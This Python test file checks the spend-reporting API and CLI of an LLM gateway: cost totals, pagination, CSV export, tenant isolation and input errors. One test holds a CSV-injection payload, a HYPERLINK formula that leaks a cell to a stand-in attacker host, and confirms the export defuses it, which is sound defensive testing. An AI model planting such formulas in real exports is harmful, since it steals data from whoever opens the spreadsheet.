"""Spend as an admin sees it: real calls through the gateway to the simulator (two tenants, two keys,
two models, streams and not, a stream without usage, cached and reasoning tokens), then
``/api/v2/spend`` and ``turnout spend`` add up to exactly what the call records cost."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import re
import sys
from collections import defaultdict
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import openai
import pytest
from sqlalchemy import select

from tests.gateway_env import OPENAI_MODEL, OPENAI_MODEL_2, GatewayEnv, open_gateway
from turnout.config import Settings
from turnout.store.messages import Message

SPEND = "/api/v2/spend"
HELLO: Any = [{"role": "user", "content": "Tell me about the sea in a few words"}]
CENT = Decimal("0.01")
# prices high enough that each call costs dollars: "to the cent" then means something
MINI_PRICES = {
    "pricing_input": 1000,
    "pricing_output": 2000,
    "pricing_cache_read": 100,
    "pricing_cache_write": 1250,
}
BIG_PRICES = {
    "pricing_input": 3000,
    "pricing_output": 6000,
    "pricing_cache_read": None,
    "pricing_cache_write": None,
}


@pytest.fixture
async def env(settings: Settings) -> AsyncIterator[GatewayEnv]:
    async with open_gateway(settings) as gw:
        yield gw


def _headers(gw: GatewayEnv, tenant: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {gw.container.jwt.mint('ann', tenant, ('tenant_admin',))}"}


async def _ok(resp: Any) -> Any:
    assert resp.status_code < 300, resp.text
    return resp.json()


async def _make_calls(gw: GatewayEnv) -> dict[str, str]:
    """The calls of the scenario; returns the key ids by name."""
    http = gw.http
    for model, prices in ((OPENAI_MODEL, MINI_PRICES), (OPENAI_MODEL_2, BIG_PRICES)):
        await _ok(await http.patch(f"/api/v2/admin/models/{model}", json=prices, headers=gw.admin))
    acme, globex = _headers(gw, "acme"), _headers(gw, "globex")
    second = await _ok(await http.post(f"/api/v2/agents/{gw.agent_id}/keys", json={}, headers=acme))
    rival = await _ok(
        await http.post("/api/v2/agents", json={"id": "rival", "name": "Rival"}, headers=globex)
    )
    rival_key = await _ok(await http.post(f"/api/v2/agents/{rival['id']}/keys", json={}, headers=globex))
    selection = {"bulk_filter": {"provider": "oai"}}
    await _ok(await http.post(f"/api/v2/agents/{rival['id']}/models", json=selection, headers=globex))
    await gw.container.snapshots.reload()

    first = gw.openai()
    other = gw.openai()
    other.api_key = second["key"]
    foreign = gw.openai()
    foreign.api_key = rival_key["key"]
    sim = gw.sim.config

    sim.cached_tokens, sim.reasoning_tokens = 4, 3  # a cache hit and some thinking, at their prices
    await first.chat.completions.create(model=OPENAI_MODEL, messages=HELLO)
    sim.cached_tokens, sim.reasoning_tokens = 5, 0  # cached, but gpt-4o has no cache price here
    stream = await other.chat.completions.create(
        model=OPENAI_MODEL_2, messages=HELLO, stream=True, stream_options={"include_usage": True}
    )
    _ = [chunk async for chunk in stream]
    sim.cached_tokens = 0
    sim.flavor = "llama.cpp"  # a stream without usage: estimated
    stream = await first.chat.completions.create(model=OPENAI_MODEL, messages=HELLO, stream=True)
    _ = [chunk async for chunk in stream]
    sim.flavor = "openai"
    await foreign.chat.completions.create(model=OPENAI_MODEL, messages=HELLO)
    await foreign.chat.completions.create(model=OPENAI_MODEL_2, messages=HELLO)
    await first.chat.completions.create(model="auto", messages=HELLO)  # routed by a policy
    return {"first": gw.key[3:].split(".")[0], "second": second["id"], "rival": rival_key["id"]}


async def _rows(gw: GatewayEnv, count: int) -> list[Message]:
    rows = await gw.records(count)
    assert len(rows) == count
    return rows


def _sums(rows: list[Message], *dims: str) -> dict[tuple[str | None, ...], Decimal]:
    out: dict[tuple[str | None, ...], Decimal] = defaultdict(Decimal)
    for row in rows:
        out[tuple(getattr(row, d) for d in dims)] += row.cost_usd or Decimal(0)
    return out


async def test_every_call_is_priced_and_recorded_with_its_key_policy_and_token_kinds(env: GatewayEnv) -> None:
    keys = await _make_calls(env)
    rows = await _rows(env, 6)
    cached, streamed, estimated, foreign, foreign_big, routed = rows
    mini = Decimal((cached.prompt_tokens - 4) * 1000 + 4 * 100 + cached.completion_tokens * 2000) / Decimal(
        1_000_000
    )
    assert (cached.cached_tokens, cached.reasoning_tokens, cached.cache_write_tokens) == (4, 3, 0)
    assert cached.cost_usd == mini and cached.cost_estimated is False, "cached tokens at the cache price"
    assert cached.api_key_id == keys["first"] and cached.policy is None  # the caller named the model
    assert streamed.stream and streamed.cached_tokens == 5 and streamed.api_key_id == keys["second"]
    big = Decimal(streamed.prompt_tokens * 3000 + streamed.completion_tokens * 6000) / Decimal(1_000_000)
    assert streamed.cost_usd == big, "no cache price: cached tokens at the input price"
    assert streamed.cost_estimated is True
    assert estimated.usage_estimated and estimated.cost_estimated and estimated.cost_usd
    assert (foreign.tenant_id, foreign.api_key_id, foreign.cost_estimated) == ("globex", keys["rival"], False)
    assert foreign_big.model == OPENAI_MODEL_2
    assert routed.policy is not None and routed.api_key_id == keys["first"]
    shown = await _ok(await env.http.get(f"/api/v2/messages/{cached.id}", headers=env.admin))
    assert (shown["api_key_id"], shown["cached_tokens"], shown["reasoning_tokens"]) == (keys["first"], 4, 3)
    assert Decimal(shown["cost_usd"]) == mini and shown["cost_estimated"] is False


async def test_spend_totals_equal_the_records_per_group_and_overall(env: GatewayEnv) -> None:
    keys = await _make_calls(env)
    rows = await _rows(env, 6)
    for dims, columns in (
        (("tenant", "model"), ("tenant_id", "model")),
        (("api_key",), ("api_key_id",)),
        (("agent", "policy"), ("agent_id", "policy")),
        (("provider", "task_type"), ("provider", "task_type")),
    ):
        report = await _ok(await env.http.get(SPEND, params={"group_by": ",".join(dims)}, headers=env.admin))
        expected = _sums(rows, *columns)
        got = {tuple(r["group"][d] for d in dims): Decimal(r["cost_usd"]) for r in report["rows"]}
        assert got == expected, dims
        assert {k: v.quantize(CENT) for k, v in got.items()} == {
            k: v.quantize(CENT) for k, v in expected.items()
        }
        assert Decimal(report["total"]["cost_usd"]) == sum(r.cost_usd or 0 for r in rows)
        assert report["total"]["calls"] == 6
    by_key = await _ok(await env.http.get(SPEND, params={"group_by": "api_key"}, headers=env.admin))
    calls = {r["group"]["api_key"]: r["calls"] for r in by_key["rows"]}
    assert calls == {keys["first"]: 3, keys["second"]: 1, keys["rival"]: 2}
    total = by_key["total"]
    assert total["cached_tokens"] == 9 and total["reasoning_tokens"] == 3
    assert total["prompt_tokens"] == sum(r.prompt_tokens or 0 for r in rows)
    estimated = sum(r.cost_usd or 0 for r in rows if r.cost_estimated)
    assert Decimal(total["estimated_cost_usd"]) == estimated and 0 < total["estimated_share"] < 1


async def test_a_report_comes_in_pages_whose_rows_add_up_to_the_whole(env: GatewayEnv) -> None:
    """``limit`` and ``offset`` page the rows (1,000 a page unless asked: a report by key and day
    over a year can hold millions); every page carries the total of all rows and how many there are,
    and the pages, in order, are the whole report. CSV, an export, holds every row unless paged."""
    await _make_calls(env)
    groups = len({(r.tenant_id, r.model) for r in await _rows(env, 6)})
    assert groups >= 4
    params = {"group_by": "tenant,model"}
    whole = await _ok(await env.http.get(SPEND, params=params, headers=env.admin))
    assert whole["row_count"] == len(whole["rows"]) == groups and whole["has_more"] is False
    assert (whole["offset"], whole["limit"]) == (0, 1000)
    pages, offset = [], 0
    while True:
        page = await _ok(
            await env.http.get(SPEND, params={**params, "limit": 3, "offset": offset}, headers=env.admin)
        )
        assert page["total"] == whole["total"] and page["row_count"] == groups
        assert len(page["rows"]) == min(3, groups - offset)
        pages.extend(page["rows"])
        offset += 3
        assert page["has_more"] is (offset < groups)
        if not page["has_more"]:
            break
    assert pages == whole["rows"]
    beyond = await _ok(await env.http.get(SPEND, params={**params, "offset": 9}, headers=env.admin))
    assert beyond["rows"] == [] and beyond["total"] == whole["total"]
    csv_all = await env.http.get(SPEND, params={**params, "format": "csv"}, headers=env.admin)
    csv_page = await env.http.get(SPEND, params={**params, "format": "csv", "limit": 1}, headers=env.admin)
    assert len(csv_all.text.splitlines()) == 1 + groups and len(csv_page.text.splitlines()) == 2


async def test_a_failed_call_is_counted_but_not_reported_unpriced(env: GatewayEnv) -> None:
    """``unpriced_calls`` names answered calls whose cost could not be worked out (a model with no
    price); a call that failed upstream, or was refused, cost nothing and is not one of them."""
    await _make_calls(env)
    with pytest.raises(openai.NotFoundError):  # refused before any model was called
        await env.openai().chat.completions.create(model="oai/no-such-model", messages=HELLO)
    rows = await _rows(env, 7)
    failed = [r for r in rows if r.status == "error"]
    assert len(failed) == 1 and failed[0].cost_usd is None
    report = await _ok(await env.http.get(SPEND, params={"group_by": "model"}, headers=env.admin))
    assert report["total"]["calls"] == 7 and report["total"]["unpriced_calls"] == 0


async def test_periods_windows_and_filters(env: GatewayEnv) -> None:
    await _make_calls(env)
    rows = await _rows(env, 6)
    today = datetime.now(UTC).date()
    expected = {"day": today, "week": today - timedelta(days=today.weekday()), "month": today.replace(day=1)}
    for period, start in expected.items():
        report = await _ok(await env.http.get(SPEND, params={"group_by": period}, headers=env.admin))
        assert [r["group"][period] for r in report["rows"]] == [start.isoformat()], period
        assert report["rows"][0]["calls"] == 6
    tomorrow = (today + timedelta(days=1)).isoformat()
    later = await _ok(await env.http.get(SPEND, params={"from": tomorrow}, headers=env.admin))
    assert later["rows"] == [] and later["total"]["calls"] == 0 and Decimal(later["total"]["cost_usd"]) == 0
    assert later["from"].startswith(f"{tomorrow}T00:00:00") and later["to"] is None
    window = {"from": today.isoformat(), "to": tomorrow, "model": OPENAI_MODEL, "tenant": "acme"}
    report = await _ok(await env.http.get(SPEND, params=window, headers=env.admin))
    wanted = [r for r in rows if r.model == OPENAI_MODEL and r.tenant_id == "acme"]
    assert report["total"]["calls"] == len(wanted)
    assert Decimal(report["total"]["cost_usd"]) == sum(r.cost_usd or 0 for r in wanted)


async def test_csv_matches_json(env: GatewayEnv) -> None:
    await _make_calls(env)
    await _rows(env, 6)
    params = {"group_by": ["tenant", "model"]}  # repeated, not comma-separated
    report = await _ok(await env.http.get(SPEND, params=params, headers=env.admin))
    resp = await env.http.get(SPEND, params={**params, "format": "csv"}, headers=env.admin)
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(resp.text)))
    assert list(table[0])[:3] == ["tenant", "model", "calls"]
    assert len(table) == len(report["rows"])
    for line, row in zip(table, report["rows"], strict=True):
        assert (line["tenant"], line["model"]) == (row["group"]["tenant"], row["group"]["model"])
        assert int(line["calls"]) == row["calls"] and int(line["prompt_tokens"]) == row["prompt_tokens"]
        assert Decimal(line["cost_usd"]) == Decimal(row["cost_usd"])


async def test_a_csv_cell_a_caller_wrote_cannot_be_a_spreadsheet_formula(env: GatewayEnv) -> None:
    """``task_type`` is the caller's to write: an agent key must not plant a formula that runs in
    the spreadsheet where an admin opens the export (CSV injection, OWASP). Such a cell is sent
    with a leading apostrophe; the JSON keeps the value as written."""
    planted = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    await env.openai().chat.completions.create(
        model=OPENAI_MODEL, messages=HELLO, extra_body={"task_type": planted}
    )
    await _rows(env, 1)
    params = {"group_by": "task_type"}
    report = await _ok(await env.http.get(SPEND, params=params, headers=env.admin))
    stored = planted.lower()  # task types are kept lower-cased; spreadsheets run it all the same
    assert [row["group"]["task_type"] for row in report["rows"]] == [stored]
    resp = await env.http.get(SPEND, params={**params, "format": "csv"}, headers=env.admin)
    (line,) = list(csv.DictReader(io.StringIO(resp.text)))
    assert line["task_type"] == "'" + stored


async def test_a_tenant_admin_sees_only_their_tenants_spend(env: GatewayEnv) -> None:
    await _make_calls(env)
    rows = await _rows(env, 6)
    for tenant in ("acme", "globex"):
        report = await _ok(
            await env.http.get(SPEND, params={"group_by": "tenant"}, headers=_headers(env, tenant))
        )
        assert [r["group"]["tenant"] for r in report["rows"]] == [tenant]
        mine = [r for r in rows if r.tenant_id == tenant]
        assert Decimal(report["total"]["cost_usd"]) == sum(r.cost_usd or 0 for r in mine)
        assert report["total"]["calls"] == len(mine)
    resp = await env.http.get(SPEND, params={"tenant": "globex"}, headers=_headers(env, "acme"))
    assert resp.status_code == 403 and resp.json()["error"]["param"] == "tenant"
    agent = await env.http.get(SPEND, headers={"Authorization": f"Bearer {env.key}"})
    assert agent.status_code == 401, "an agent key is no admin credential"


@pytest.mark.parametrize(
    ("params", "param"),
    [
        ({"group_by": "colour"}, "group_by"),
        ({"group_by": "tenant,model,day"}, "group_by"),
        ({"group_by": "day,week"}, "group_by"),
        ({"from": "yesterday"}, "from"),
        ({"to": "2026-13-01"}, "to"),
        ({"to": "9999-12-31T23:59:59-05:00"}, "to"),
        ({"from": "2026-02-01", "to": "2026-01-01"}, "from"),
        ({"format": "xml"}, "format"),
        ({"limit": "0"}, "limit"),
        ({"limit": "10001"}, "limit"),
        ({"offset": "-1"}, "offset"),
    ],
)
async def test_bad_input_is_a_400_naming_the_field(
    env: GatewayEnv, params: dict[str, str], param: str
) -> None:
    resp = await env.http.get(SPEND, params=params, headers=env.admin)
    assert resp.status_code == 400, resp.text
    assert resp.json()["error"]["param"] == param


async def test_the_cli_prints_the_spend_table_and_csv(env: GatewayEnv, settings: Settings) -> None:
    await _make_calls(env)
    rows = await _rows(env, 6)
    run_env = {**os.environ, "TURNOUT_DATABASE_URL": settings.database_url, "COLUMNS": "250"}
    run_env["TURNOUT_DATA_DIR"] = str(settings.data_dir)
    turnout = str(Path(sys.executable).with_name("turnout"))

    async def run(*args: str) -> str:
        pipe = asyncio.subprocess.PIPE
        proc = await asyncio.create_subprocess_exec(
            turnout, "spend", *args, env=run_env, stdout=pipe, stderr=asyncio.subprocess.STDOUT
        )
        out, _ = await asyncio.wait_for(proc.communicate(), 60)
        assert proc.returncode == 0, out.decode()
        return out.decode()

    out = await run("--group-by", "tenant", "-g", "model")
    total = sum((r.cost_usd or Decimal(0) for r in rows), Decimal(0))
    assert "acme" in out and "globex" in out and OPENAI_MODEL in out
    footer = next(line for line in out.splitlines() if "total" in line)
    shown = Decimal(next(w for w in footer.split() if w.startswith("$"))[1:].replace(",", ""))
    assert shown == (total.quantize(CENT) if total >= 1 else total), "a sub-dollar total keeps its digits"
    async with env.container.sessions() as session:
        models = set((await session.scalars(select(Message.model))).all())
    assert all(model in out for model in models if model)
    lines = (await run("--group-by", "api_key", "--csv")).strip().splitlines()
    assert lines[0].startswith("api_key,calls,prompt_tokens") and len(lines) == 4


USD_TEXT = re.compile(r"^\d+\.\d{8}$")  # "0.00980000", "0.00000000": never "0E-8", "0.0098" or "1E-8"


async def test_costs_read_as_plain_decimals_with_8_places_on_every_backend(env: GatewayEnv) -> None:
    """On SQLite a record's zero cost read "0E-8" and a spend total "0.0098"; on PostgreSQL
    "0.00980000": the same call's cost looked different by backend."""
    await _ok(
        await env.http.patch(f"/api/v2/admin/models/{OPENAI_MODEL}", json=MINI_PRICES, headers=env.admin)
    )
    free = {"pricing_input": 0, "pricing_output": 0, "pricing_cache_read": None, "pricing_cache_write": None}
    await _ok(await env.http.patch(f"/api/v2/admin/models/{OPENAI_MODEL_2}", json=free, headers=env.admin))
    await env.container.snapshots.reload()
    for model in (OPENAI_MODEL, OPENAI_MODEL_2):
        await env.openai().chat.completions.create(model=model, messages=HELLO)
    rows = await _rows(env, 2)
    assert sorted(r.cost_usd or 0 for r in rows)[0] == 0, "one call cost nothing"
    listed = await _ok(await env.http.get("/api/v2/messages", headers=env.admin))
    costs = [m["cost_usd"] for m in listed["items"]]
    for row in rows:
        costs.append(
            (await _ok(await env.http.get(f"/api/v2/messages/{row.id}", headers=env.admin)))["cost_usd"]
        )
    tomorrow = (datetime.now(UTC).date() + timedelta(days=1)).isoformat()
    for params in ({"group_by": "model"}, {"from": tomorrow}):
        report = await _ok(await env.http.get(SPEND, params=params, headers=env.admin))
        for row in [*report["rows"], report["total"]]:
            costs += [row["cost_usd"], row["estimated_cost_usd"]]
    text = (await env.http.get(SPEND, params={"group_by": "model", "format": "csv"}, headers=env.admin)).text
    for line in csv.DictReader(io.StringIO(text)):
        costs += [line["cost_usd"], line["estimated_cost_usd"]]
    assert costs and all(isinstance(c, str) and USD_TEXT.match(c) for c in costs), costs
    assert "0.00000000" in costs, costs
